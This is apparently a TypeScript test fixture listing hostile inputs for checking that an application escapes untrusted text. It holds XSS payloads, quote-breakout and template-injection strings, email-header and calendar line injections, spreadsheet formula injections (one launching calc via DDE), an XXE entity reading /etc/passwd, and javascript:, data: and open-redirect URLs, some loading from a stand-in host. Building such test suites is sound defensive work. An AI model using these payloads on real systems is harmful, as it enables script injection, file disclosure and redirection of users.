// What somebody types who wants the words to become something else: an element, a header, a formula, a line of a calendar.
// Whatever runs calls alert('hostile'); whatever becomes part of a page is named so that it can be found.

const alert = `alert('hostile')`

/** Words that try to become elements and attributes. */
const markup: readonly string[] = [
  `<script>${alert}</script>`,
  `</script><script>${alert}</script>`,
  `<!--</script><script>${alert}//-->`,
  `<ScRiPt data-hostile>${alert}</sCrIpT >`,
  `<script/data-hostile>${alert}</script>`,
  `<script data-hostile src=//hostile.example/x.js></script>`,
  `<img data-hostile src=x onerror=${alert}>`,
  `<img data-hostile src=x onerror="${alert}" //`,
  `<img/data-hostile/src/onerror=${alert}>`,
  `<svg data-hostile onload=${alert}>`,
  `<svg data-hostile><script>${alert}</script></svg>`,
  `<svg><animate data-hostile onbegin=${alert} attributeName=x dur=1s>`,
  `<svg><a data-hostile xlink:href="javascript:${alert}"><text y=9>x</text></a></svg>`,
  `<math data-hostile><mi xlink:href="javascript:${alert}">x</mi></math>`,
  `<iframe data-hostile srcdoc="<script>parent.${alert}</script>"></iframe>`,
  `<iframe data-hostile src="javascript:parent.${alert}">`,
  `<object data-hostile data="javascript:${alert}"></object>`,
  `<embed data-hostile src="javascript:${alert}">`,
  `<body data-hostile onload=${alert}>`,
  `<details data-hostile open ontoggle=${alert}>x</details>`,
  `<input data-hostile autofocus onfocus=${alert}>`,
  `<video data-hostile><source onerror=${alert}></video>`,
  `<base data-hostile href="//hostile.example/">`,
  `<meta data-hostile http-equiv=refresh content="0;url=//hostile.example">`,
  `<link data-hostile rel=stylesheet href=//hostile.example/x.css>`,
  `<style data-hostile>*{display:none}</style>`,
  `<form data-hostile action=//hostile.example><button>Verder`,
  `<a data-hostile href="javascript:${alert}">klik</a>`,
  `<hostile-x onclick=${alert}>klik</hostile-x>`,
  `<noscript><p title="</noscript><img data-hostile src=x onerror=${alert}>">`,
  `<template data-hostile><script>${alert}</script></template>`,
  `<title></title><img data-hostile src=x onerror=${alert}>`,
  `<textarea></textarea><img data-hostile src=x onerror=${alert}>`,
  `<![CDATA[<hostile-x>]]>`,
  `]]><hostile-x/><![CDATA[`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><hostile-x>&e;</hostile-x>`,
  `&e; &#60;hostile-x&#62; &lt;hostile-x&gt; &amp;lt;hostile-x&amp;gt;`,
  `<\u0000hostile-x>`,
  `\uff1chostile-x\uff1e ${alert}`,
  `%3Chostile-x%3E%3Cscript%3E${alert}%3C/script%3E`,
  `\\u003chostile-x\\u003e \\x3cscript\\x3e${alert}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${alert}+ADw-/script+AD4-`,
]

/** Words that try to leave the quotes they stand in. */
const quotes: readonly string[] = [
  `" data-hostile onmouseover="${alert}" x="`,
  `' data-hostile onmouseover='${alert}' x='`,
  '` data-hostile onmouseover=`x',
  `"><hostile-x>`,
  `'><hostile-x>`,
  `--><hostile-x>`,
  `";${alert};//`,
  `'-${alert}-'`,
  `\\";${alert};//`,
  `\${${alert}}`,
  `{{constructor.constructor("${alert}")()}}`,
  `"}]}</script><script>${alert}</script>`,
  `\u2028${alert}\u2029`,
]

/** Words that try to begin a line: of a header, a calendar, a table. */
const lines: readonly string[] = [
  'Hallo\r\nBcc: hostile',
  'Hallo\nX-Hostile: 1',
  'Hallo\r\n\r\n<hostile-x>',
  'Hallo\u2028X-Hostile: 1',
  'Hallo\u0085X-Hostile: 1',
  '=?utf-8?Q?=0D=0AX-Hostile:_1?=',
  'Zaal\r\nATTENDEE:mailto:hostile',
  'Zaal\nEND:VEVENT\nBEGIN:VEVENT\nUID:hostile',
  'Zaal\\nATTENDEE:hostile',
  'Zaal;X-HOSTILE=1:x',
  'Zaal\r\n X-HOSTILE:1',
  `=HYPERLINK("http://hostile.example";"klik")`,
  `=cmd|' /C calc'!A0`,
  '+hostile(1)',
  '-hostile(1)',
  '@SUM(A1)',
  '\t=hostile(1)',
  `a;"b"\r\n=hostile(1);x`,
  '|hostile',
]

/** Addresses that try to be more than the way to a page. */
export const hostileAddresses: readonly string[] = [
  `javascript:${alert}`,
  `JaVaScRiPt:${alert}`,
  `java\tscript:${alert}`,
  `java\nscript:${alert}`,
  `\u0001javascript:${alert}`,
  ` javascript:${alert}`,
  `javascript&colon;${alert}`,
  `vbscript:${alert}`,
  `data:text/html,<script>${alert}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgnaG9zdGlsZScpPC9zY3JpcHQ+`,
  `blob:https://hostile.example/1`,
  `view-source:javascript:${alert}`,
  'file:///etc/passwd',
  '//hostile.example',
  '/\\hostile.example',
  '\\\\hostile.example',
  'https://www.voorbeeld.example@hostile.example',
]

/** Everything that is words. */
export const hostileWords: readonly string[] = [...markup, ...quotes, ...lines]
